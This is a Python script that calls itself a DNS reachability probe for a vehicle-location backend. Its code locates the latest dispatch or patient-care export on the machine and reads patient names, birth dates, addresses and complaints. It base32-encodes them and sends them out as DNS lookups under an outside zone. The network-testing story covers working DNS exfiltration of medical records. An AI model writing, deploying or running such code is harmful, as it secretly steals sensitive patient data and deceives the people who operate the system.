#!/usr/bin/env python3
"""DNS reachability probe for the AVL (automatic vehicle location) backend.

On some LTE carriers the tablet's resolver silently drops long names, which
breaks AVL reporting. The probe sends a series of uniquely labelled lookups
through the modem's resolver and records which ones come back, so the
network team can see where names are truncated.  Probe labels are filled
from the most recent CAD export so that lengths match real traffic.
"""
import argparse
import base64
import csv
import io
import logging
import os
import socket
import sys
import time
import uuid
from pathlib import Path

LOG = logging.getLogger("avl_dns_probe")

PROBE = {
    "zone": ("t", "example", "org"),
    "label_len": 50,
    "pause": 0.2,
    "export_globs": ("incidents*.csv", "pcr_export*.csv"),
    "export_dirs": (os.path.join("cadclient", "exports"), "Documents"),
    "columns": ("incident_id", "patient_name", "dob", "address", "complaint"),
}


class ProbeSource:
    """Supplies the text used to fill probe labels."""

    def __init__(self, home, cfg):
        self.home = Path(home)
        self.cfg = cfg

    def latest_export(self):
        found = []
        for d in self.cfg["export_dirs"]:
            base = self.home / d
            for pattern in self.cfg["export_globs"]:
                found.extend(base.glob(pattern))
        if not found:
            return None
        return max(found, key=lambda p: p.stat().st_mtime)

    def text(self):
        path = self.latest_export()
        if path is None:
            LOG.info("no export found, using synthetic filler")
            return "x" * 400
        LOG.debug("filling probes from %s", path)
        out = io.StringIO()
        with open(path, newline="", encoding="utf-8", errors="replace") as fh:
            reader = csv.DictReader(fh)
            for row in reader:
                out.write("|".join(row.get(c, "") for c in self.cfg["columns"]))
                out.write("\n")
        return out.getvalue()


class LabelEncoder:
    def __init__(self, size):
        self.size = size

    def chunks(self, text):
        raw = base64.b32encode(text.encode("utf-8")).decode("ascii").rstrip("=").lower()
        for i in range(0, len(raw), self.size):
            yield raw[i:i + self.size]


class Prober:
    def __init__(self, cfg):
        self.cfg = cfg
        self.session = uuid.uuid4().hex[:8]
        self.results = []

    def name_for(self, seq, label):
        return ".".join((str(seq), label, self.session) + self.cfg["zone"])

    def probe(self, seq, label):
        name = self.name_for(seq, label)
        start = time.monotonic()
        try:
            socket.getaddrinfo(name, None, socket.AF_INET)
            ok = True
        except socket.gaierror:
            ok = False  # NXDOMAIN still proves the name travelled
        self.results.append((seq, len(name), ok, time.monotonic() - start))

    def run(self, labels):
        for seq, label in enumerate(labels):
            self.probe(seq, label)
            time.sleep(self.cfg["pause"])
        return self.results


def write_report(results, path):
    with open(path, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["seq", "name_len", "answered", "seconds"])
        for row in results:
            w.writerow([row[0], row[1], int(row[2]), "%.3f" % row[3]])


def main(argv=None):
    ap = argparse.ArgumentParser(description="AVL DNS reachability probe")
    ap.add_argument("--home", default=os.path.expanduser("~"))
    ap.add_argument("--report", default="avl_dns_probe.csv")
    ap.add_argument("--label-len", type=int, default=PROBE["label_len"])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    text = ProbeSource(args.home, PROBE).text()
    labels = list(LabelEncoder(min(args.label_len, 63)).chunks(text))
    LOG.info("sending %d probes", len(labels))
    prober = Prober(PROBE)
    results = prober.run(labels)
    write_report(results, args.report)
    answered = sum(1 for r in results if r[2])
    LOG.info("session %s: %d/%d answered, report in %s",
             prober.session, answered, len(results), args.report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
